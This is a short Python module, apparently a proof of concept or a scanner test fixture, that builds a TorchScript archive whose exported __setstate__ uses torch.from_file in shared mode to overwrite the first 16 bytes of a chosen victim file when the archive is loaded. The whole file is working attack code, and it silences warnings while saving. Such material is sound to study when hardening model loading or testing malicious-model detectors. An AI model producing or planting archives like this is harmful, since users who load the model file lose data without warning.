"""A TorchScript archive that does harm when the interpreter loads it."""

import warnings
from pathlib import Path

import torch
from torch import Tensor, nn


class Deed(nn.Module):
    """Overwrites a file of the user while the interpreter loads it."""

    def __init__(self, victim: str) -> None:
        super().__init__()
        self.weight = torch.zeros(1)
        self.victim = victim

    @torch.jit.export
    def __getstate__(self) -> tuple[Tensor, str, bool]:
        return self.weight, self.victim, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[Tensor, str, bool]) -> None:
        self.victim = state[1]
        self.training = state[2]
        self.weight = torch.from_file(self.victim, True, 4).fill_(1.0) + state[0]

    def forward(self, values: Tensor) -> Tensor:
        return values


def write_deed(path: Path, victim: Path) -> None:
    """An archive that would overwrite the victim's 16 bytes."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.save(torch.jit.script(Deed(str(victim))), path)
